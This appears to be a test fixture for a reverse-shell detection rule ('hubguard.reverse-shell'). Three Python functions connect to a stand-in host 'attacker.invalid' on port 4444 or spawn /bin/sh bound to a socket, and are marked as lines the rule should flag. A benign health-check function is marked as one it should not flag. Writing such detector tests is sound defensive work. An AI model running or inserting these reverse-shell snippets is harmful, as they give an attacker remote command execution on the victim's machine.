import os
import socket
import subprocess


def classic():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.connect(("attacker.invalid", 4444))
    # ruleid: hubguard.reverse-shell
    os.dup2(sock.fileno(), 0)
    # ruleid: hubguard.reverse-shell
    os.dup2(sock.fileno(), 1)


def piped():
    sock = socket.socket()
    sock.connect(("attacker.invalid", 4444))
    while True:
        command = sock.recv(1024).decode()
        # ruleid: hubguard.reverse-shell
        sock.send(subprocess.check_output(command.split()))


def fed(sock):
    # ruleid: hubguard.reverse-shell
    subprocess.Popen(["/bin/sh"], stdin=sock.fileno(), stdout=sock.fileno())


def health_check(host, port):
    # ok: hubguard.reverse-shell
    with socket.create_connection((host, port), timeout=1) as conn:
        conn.sendall(b"ping")
        return conn.recv(4)
